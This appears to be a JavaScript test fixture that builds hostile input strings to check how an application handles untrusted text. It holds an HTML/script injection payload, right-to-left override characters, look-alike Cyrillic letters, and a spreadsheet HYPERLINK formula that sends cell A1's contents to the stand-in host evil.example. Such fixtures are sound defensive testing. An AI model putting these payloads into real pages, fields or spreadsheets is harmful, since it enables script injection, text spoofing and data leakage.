/* Words that would run, reorder or break what is around them. */

const RUN = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>";
const TURNED = '\u202Eegac al snad\u202C \u2067';
const RIGHT_TO_LEFT = 'שלום 12 € مرحبا (3)';
/** Cyrillic letters that look like Latin ones. */
const ALIKE = 'Аррӏе';

export const HOSTILE_NAME = `Bol ${RUN} ${TURNED} ${RIGHT_TO_LEFT} ${ALIKE}`;
export const HOSTILE_FORMULA = `=HYPERLINK("http://evil.example/?"&A1;"${RIGHT_TO_LEFT}")${TURNED}`;
export const HOSTILE_LONG = `${HOSTILE_NAME} ${'mot'.repeat(1_500)} ${HOSTILE_FORMULA}`;
